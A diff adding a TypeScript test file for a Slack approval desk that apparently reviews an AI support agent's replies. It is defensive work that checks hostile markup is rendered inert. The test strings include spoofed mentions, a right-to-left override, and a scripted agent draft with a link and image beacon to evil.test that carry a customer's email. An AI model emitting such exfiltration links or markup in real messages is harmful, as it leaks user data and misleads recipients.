@@ -1,0 +1,138 @@
+import assert from "node:assert/strict";
+import { after, before, beforeEach, test } from "node:test";
+import { slack } from "#slack/index.ts";
+import { createOutputCheck } from "#guard/output/output-check.ts";
+import { deskHandler } from "#jobs/decisions/desk-handler.ts";
+import { onDesk } from "#test/jobs/bench.ts";
+import { agentUnderTest, CAPS } from "#test/support/fixtures/turns.ts";
+import { scriptedModel } from "#test/support/scripted-model.ts";
+import { shownText } from "#test/support/slack.ts";
+import { eventually, optionsFor } from "#test/slack/bench.ts";
+import { assertWithinLimits, textObjectsIn } from "#test/slack/api/limits.ts";
+import { CHANNELS, startTestSlack, USERS, type TestSlack } from "#test/slack/local-slack.ts";
+import { recordingDoor, type RecordingDoor } from "#test/slack/transport/recording-handler.ts";
+
+const HOSTILE =
+  "<!channel> <@U0SAM> <!subteam^S1> <https://evil.test/?d=x|your invoice> *bold* ```` \u202Eevil";
+/** What Slack would read as a mention, a link or a command to itself. */
+const LIVE = /<[@!#]|<https?:|<mailto:/;
+
+let server: TestSlack;
+let door: RecordingDoor;
+
+before(async () => {
+  server = await startTestSlack();
+  door = await recordingDoor(server.url);
+});
+
+after(async () => {
+  await door.close();
+  await server.close();
+});
+
+onDesk("hostile words on the desk", (bench) => {
+  beforeEach(async (context) => {
+    assert.ok("after" in context);
+    await server.people.reset();
+    door.calls.splice(0);
+    const { desk } = slack(optionsFor(door.apiUrl));
+    bench.connectDesk(desk);
+    await desk.start(deskHandler(bench.parts));
+    context.after(() => desk.stop());
+  });
+
+  /** Nothing that Slack parses holds markup of somebody else's, in anything that was sent so far. */
+  const assertInert = (): void => {
+    for (const { method, parameters } of door.calls) {
+      const parsed: unknown = JSON.parse(parameters["blocks"] ?? parameters["view"] ?? "[]");
+      for (const { type, text } of textObjectsIn(parsed))
+        if (type === "mrkdwn") assert.doesNotMatch(text, /[<>]|(?<!^)\*(?!$)|`/, method);
+      assert.doesNotMatch(parameters["text"] ?? "", LIVE, method);
+      assert.doesNotMatch(JSON.stringify(parsed), /"type":"(?:image|rich_text|video)"/);
+      assert.doesNotMatch(JSON.stringify(parsed), /\u202E/);
+    }
+  };
+
+  /** Every message that went out, or was changed, said that nothing in it may be looked up. */
+  const assertQuiet = (...methods: readonly string[]): void => {
+    const messages = door.calls.filter(({ method }) => method.startsWith("chat."));
+    const called = new Set(messages.map(({ method }) => method));
+    assert.deepEqual([...called].toSorted(), methods.toSorted());
+    for (const { method, parameters } of messages) {
+      const { unfurl_links, unfurl_media, link_names, parse } = parameters;
+      assert.deepEqual(
+        { unfurl_links, unfurl_media, link_names, parse },
+        { unfurl_links: "false", unfurl_media: "false", link_names: "false", parse: "none" },
+        method,
+      );
+    }
+  };
+
+  const card = async () => {
+    const [message] = await server.people.messages(CHANNELS.approvals);
+    assert.ok(message);
+    return message;
+  };
+
+  test("S17 a customer's markup is shown literally, and mentions, links and unfurls nothing", async (context) => {
+    const text = `${HOSTILE}\n\n<!here> <@U0SAM> *bold*\n\nשלום עולם\n\n${`${HOSTILE} `.repeat(130)}`;
+    assert.ok(text.length > 10_000);
+    await bench.write(text, { message: { author: { ...ANN, name: HOSTILE }, subject: HOSTILE } });
+    const posted = await card();
+    assertWithinLimits(posted.blocks);
+    const shown = shownText(posted);
+    assert.ok(shown.includes(HOSTILE.replace("\u202E", "[U+202E]")));
+    assert.ok(shown.includes("שלום עולם"));
+    assertInert();
+    assertQuiet("chat.postMessage", "chat.update");
+    await server.people.click(USERS.sam, CHANNELS.approvals, posted.ts, "desk:why");
+    await eventually(context, () =>
+      assert.match(JSON.stringify(server.people.view()), /Who did what/),
+    );
+    assertInert();
+  });
+
+  test("S18 a draft with a link, an image and a mention waits with a warning, shown as text, and no message of the run may unfurl", async (context) => {
+    const draft =
+      "Look: https://evil.test/?d=ann@customer.test ![x](https://evil.test/p.png?o=789) <@U0SAM> <!here>";
+    const reply = { name: "reply", input: { text: draft, kind: "answer", topic: "other" } };
+    const look = { name: "get_order_status", input: { order_id: "456" } };
+    const model = scriptedModel([{ calls: [look] }, { calls: [reply] }, { calls: [reply] }]);
+    const output = createOutputCheck({ linkHosts: [], ownAddresses: [], isCanary: () => false });
+    const { agent } = agentUnderTest({
+      model,
+      output,
+      caps: () => ({ ...CAPS, confidenceMin: 0 }),
+    });
+    bench.answer((input) => agent.run(input));
+    // Replies of this channel go out by themselves where nothing speaks against it.
+    bench.rule({ replyAutonomy: () => "auto" });
+    const id = await bench.write("Where is my order 456?", { channel: "chat" });
+    model.assertUsedUp();
+    assert.deepEqual(bench.replies(), []);
+    assert.ok(await bench.pending(id), await bench.outcome(id));
+    const posted = await card();
+    const shown = shownText(posted);
+    assert.match(shown, /⚠️ Check “.*evil\.test/);
+    assert.match(shown, /an image is loaded by being seen/);
+    assert.ok(shown.includes("<«@U0SAM»> <!here>"));
+    // Ned has no role and is told so; Sam lets it go after all; an alert goes out.
+    await server.people.click(USERS.ned, CHANNELS.approvals, posted.ts, "desk:approve");
+    await eventually(context, () =>
+      assert.ok(door.calls.some(({ method }) => method === "chat.postEphemeral")),
+    );
+    await server.people.click(USERS.sam, CHANNELS.approvals, posted.ts, "desk:approve");
+    await bench.parts.desk.notify(HOSTILE, ["lea@ourshop.test"], "alert", AbortSignal.timeout(9e3));
+    await eventually(context, async () => {
+      await bench.tick();
+      assert.ok(door.calls.some(({ method }) => method === "chat.update"));
+    });
+    assertQuiet("chat.postEphemeral", "chat.postMessage", "chat.update");
+    const alerted = door.calls.filter(
+      ({ parameters }) => parameters["channel"] === CHANNELS.alerts,
+    );
+    assert.doesNotMatch(alerted.map(({ parameters }) => parameters["text"]).join(), /<!|<http/);
+  });
+});
+
+const ANN = { kind: "requester", id: "email:ann@customer.test" } as const;
